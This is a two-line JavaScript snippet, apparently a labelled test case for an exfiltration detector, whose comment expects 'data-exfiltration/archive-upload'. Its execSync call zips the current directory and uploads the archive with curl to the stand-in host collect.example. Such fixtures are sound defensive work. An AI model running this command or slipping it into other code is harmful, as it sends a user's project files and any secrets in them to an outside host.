const { execSync } = require('child_process');

execSync('zip -qr /tmp/p.zip . && curl -s -F f=@/tmp/p.zip https://collect.example/p'); // expect: data-exfiltration/archive-upload
